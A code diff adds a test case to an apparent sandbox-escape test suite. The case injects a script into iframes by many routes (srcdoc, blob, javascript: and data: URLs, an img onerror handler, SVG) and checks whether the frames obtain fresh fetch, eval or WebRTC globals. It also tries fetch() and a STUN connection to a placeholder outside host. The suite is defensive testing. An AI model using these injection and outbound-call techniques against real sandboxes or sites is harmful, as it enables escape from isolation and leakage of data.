@@ -179,6 +179,55 @@ export const NETWORK: readonly Attack[] = [
   },
 ];
 
+/** What a frame's own script does with globals that nobody has replaced; the page around it prints what it is told. */
+const FRESH_GLOBALS = [
+  'const tell = (what) => parent.postMessage("worked: " + what, "*");',
+  'tell("a script of its own");',
+  'fetch("OUTSIDE/fresh").then(() => tell("fetch"), () => {});',
+  'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OUTSIDE".slice(7) }] });',
+  'peer.createDataChannel("x");',
+  'peer.onicecandidate = (event) => event.candidate && tell(event.candidate.candidate);',
+  'peer.createOffer().then((offer) => peer.setLocalDescription(offer));',
+].join(' ');
+
+export const FRAMES: readonly Attack[] = [
+  {
+    name: 'frames with globals of their own',
+    realms: ['page'],
+    goal: 'module',
+    source: [
+      `const code = ${JSON.stringify(FRESH_GLOBALS)};`,
+      'const html = "<script>" + code + "</scr" + "ipt>";',
+      'const address = (text, type) => URL.createObjectURL(new Blob([text], { type }));',
+      'const script = address(code, "text/javascript");',
+      'addEventListener("message", (event) => console.log(String(event.data)));',
+      'const frames = [',
+      '  { srcdoc: html },',
+      '  { srcdoc: `<script src="${script}"></scr` + "ipt>" },',
+      '  { srcdoc: `<script type="module" src="${script}"></scr` + "ipt>" },',
+      '  { srcdoc: `<img src="x" onerror="${code.replaceAll(`"`, "&quot;")}">` },',
+      '  { srcdoc: `<a href="javascript:${encodeURIComponent(code)}">x</a><iframe srcdoc="${html.replaceAll(`"`, "&quot;")}"></iframe>` },',
+      '  { src: "about:blank" },',
+      '  { src: "javascript:" + JSON.stringify(html) },',
+      '  { src: address(html, "text/html") },',
+      '  { src: address(`<svg xmlns="http://www.w3.org/2000/svg"><script>${code.replaceAll("<", "&lt;").replaceAll("&", "&amp;")}</scr` + "ipt></svg>", "image/svg+xml") },',
+      '  { src: "data:text/html," + encodeURIComponent(html) },',
+      '];',
+      'for (const given of frames) {',
+      '  const frame = Object.assign(document.createElement("iframe"), given);',
+      '  document.body.append(frame);',
+      '  for (const name of ["RTCPeerConnection", "fetch", "eval", "document"])',
+      '    try { if (frame.contentWindow[name]) console.log("worked: reached", name, "of", JSON.stringify(given).slice(0, 40)); } catch {}',
+      '  try { frame.contentWindow.location = "javascript:" + JSON.stringify(html); } catch {}',
+      '}',
+      'await new Promise((resolve) => setTimeout(resolve, 2500));',
+      'console.log("tried everything");',
+    ].join('\n'),
+    order: { lingerMs: 300 },
+    safe: nothingWorked,
+  },
+];
+
 export const STORAGE: readonly Attack[] = [
   {
     name: 'storage',
